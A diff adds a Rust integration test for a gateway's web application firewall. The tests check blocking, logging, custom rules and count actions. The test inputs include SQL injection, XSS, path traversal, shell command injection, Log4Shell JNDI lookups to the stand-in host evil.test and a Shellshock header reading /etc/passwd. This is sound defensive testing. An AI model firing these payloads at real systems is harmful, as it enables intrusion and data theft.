@@ -1,0 +1,171 @@
+//! The WAF through the real server: managed groups (with encodings that try to
+//! hide attacks), custom rules, actions, and no false positives on ordinary input.
+
+mod common;
+
+use common::{client, json, Gatehouse};
+
+/// Sends a raw request line (clients would normalise or re-encode it).
+async fn raw(gh: &Gatehouse, target: &str, headers: &[(&str, &str)]) -> u16 {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let mut s = tokio::net::TcpStream::connect(gh.addr("http"))
+        .await
+        .unwrap();
+    let mut req = format!("GET {target} HTTP/1.1\r\nhost: t\r\nconnection: close\r\n");
+    for (k, v) in headers {
+        req.push_str(&format!("{k}: {v}\r\n"));
+    }
+    req.push_str("\r\n");
+    s.write_all(req.as_bytes()).await.unwrap();
+    let mut out = String::new();
+    s.read_to_string(&mut out).await.unwrap();
+    out.split_whitespace().nth(1).unwrap().parse().unwrap()
+}
+
+#[tokio::test]
+async fn managed_groups_block_attacks_and_pass_ordinary_input() {
+    let gh = Gatehouse::start("waf", &[]);
+    let attacks: &[(&str, &[(&str, &str)])] = &[
+        ("/w/hello?q=1'%20OR%20'1'='1", &[]),
+        (
+            "/w/hello?id=1%20UNION%20SELECT%20password%20FROM%20users--",
+            &[],
+        ),
+        ("/w/hello?q=%2527%20or%201%3D1--", &[]), // double-encoded quote
+        ("/w/hello?q=%3Cscript%3Ealert(1)%3C/script%3E", &[]),
+        (
+            "/w/hello?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
+            &[],
+        ), // double encoding
+        ("/w/hello?q=%3CsCrIpT%3Ealert(1)%3C/ScRiPt%3E", &[]), // mixed case
+        ("/w/hello?img=%3Cimg%20src=x%20onerror=alert(1)%3E", &[]),
+        ("/w/hello?file=../../etc/passwd", &[]),
+        ("/w/hello?file=..%252f..%252fetc%252fpasswd", &[]),
+        ("/w/hello?file=..%5c..%5cwindows%5cwin.ini", &[]),
+        ("/w/hello?host=8.8.8.8%3Bcat%20/etc/hosts", &[]),
+        ("/w/hello?cmd=x%7C%7Cwhoami", &[]),
+        ("/w/hello?x=$(id)", &[]),
+        ("/w/hello", &[("user-agent", "${jndi:ldap://evil.test/a}")]),
+        (
+            "/w/hello",
+            &[("x-api-version", "${${lower:j}ndi:ldap://evil.test/a}")],
+        ),
+        (
+            "/w/hello",
+            &[("user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")],
+        ),
+        (
+            "/w/hello",
+            &[("cookie", "session=abc; pref=1'%20or%20'1'%3D'1")],
+        ),
+    ];
+    for (target, headers) in attacks {
+        assert_eq!(
+            raw(&gh, target, headers).await,
+            403,
+            "not blocked: {target} {headers:?}"
+        );
+    }
+    let benign: &[&str] = &[
+        "/w/hello?name=O'Brien",
+        "/w/hello?name=O%27Brien&city=Dublin",
+        "/w/hello?q=select%20the%20union%20of%20both%20sets",
+        "/w/hello?q=drop%20me%20a%20line%20or%20two",
+        "/w/hello?filter=%7B%22name%22%3A%22O'Brien%22%2C%22age%22%3A42%7D",
+        "/w/hello?q=1%2B1%3D2",
+        "/w/hello?price=10-20&sort=-created",
+        "/w/hello?email=ann%40example.com",
+        "/w/hello?text=I%20%3C3%20rust",
+        "/w/hello?path=docs/guide/index.html",
+        "/w/hello?q=where%20is%20the%20cat%3F",
+        "/w/hello?title=Tom%20%26%20Jerry",
+        "/w/files/report.v2.pdf",
+    ];
+    for target in benign {
+        assert_eq!(raw(&gh, target, &[]).await, 200, "false positive: {target}");
+    }
+}
+
+#[tokio::test]
+async fn blocks_name_the_rule_in_the_log_not_the_response() {
+    let gh = Gatehouse::start("waf", &[]);
+    let resp = client()
+        .get(format!("{}?q=1'%20OR%20'1'='1", gh.url("/w/hello")))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 403);
+    let id = resp.headers()["x-request-id"].to_str().unwrap().to_string();
+    let body = resp.text().await.unwrap();
+    assert!(
+        !body.contains("sqli") && !body.contains("managed"),
+        "{body}"
+    );
+    assert_eq!(
+        serde_json::from_str::<serde_json::Value>(&body).unwrap()["message"],
+        "request blocked"
+    );
+    let line = gh.wait_stdout(&id).await;
+    let entry: serde_json::Value = serde_json::from_str(&line).unwrap();
+    assert_eq!(entry["denied_by"], "waf");
+    assert_eq!(entry["rule"], "managed:sqli");
+}
+
+#[tokio::test]
+async fn custom_rules_ip_sets_transforms_and_actions() {
+    let gh = Gatehouse::start("waf", &[]);
+    let xff = |ip: &'static str| [("x-forwarded-for", ip)];
+    assert_eq!(raw(&gh, "/w/hello", &xff("203.0.113.9")).await, 403);
+    assert_eq!(raw(&gh, "/w/hello", &xff("2001:db8::1")).await, 403);
+    assert_eq!(raw(&gh, "/w/hello", &xff("192.0.2.1")).await, 200);
+    // `allow` ends evaluation: the trusted office passes even the managed groups.
+    assert_eq!(
+        raw(&gh, "/w/hello?q=1'%20OR%20'1'='1", &xff("198.51.100.7")).await,
+        200
+    );
+
+    // Transforms see through encoding, case and dot segments.
+    for target in [
+        "/w/admin/users",
+        "/w/ADMIN/users",
+        "/w/%61dmin/users",
+        "/w/x/..%2Fadmin/users",
+    ] {
+        assert_eq!(raw(&gh, target, &[]).await, 403, "{target}");
+    }
+    let long = format!("/w/hello?q={}", "a".repeat(2100));
+    assert_eq!(raw(&gh, &long, &[]).await, 403);
+    // base64("DROP   TABLE users")
+    assert_eq!(
+        raw(
+            &gh,
+            "/w/hello",
+            &[("x-payload", "RFJPUCAgIFRBQkxFIHVzZXJz")]
+        )
+        .await,
+        403
+    );
+
+    // `count` lets the request through and counts it.
+    assert_eq!(
+        raw(&gh, "/w/hello", &[("user-agent", "curl/8.0")]).await,
+        200
+    );
+    let metrics = client()
+        .get(gh.admin_url("/metrics"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(metrics.contains(
+        "gatehouse_waf_matches_total{action=\"count\",rule=\"count-curl\",rule_set=\"edge\"} 1"
+    ));
+    assert!(metrics.contains("gatehouse_waf_matches_total{action=\"block\",rule=\"banned-networks\",rule_set=\"edge\"} 2"));
+
+    // A route can opt out.
+    assert_eq!(raw(&gh, "/w/free/x?q=1'%20OR%20'1'='1", &[]).await, 200);
+    let v = json(client().get(gh.url("/w/free/x")).send().await.unwrap()).await;
+    assert_eq!(v["free"], true);
+}
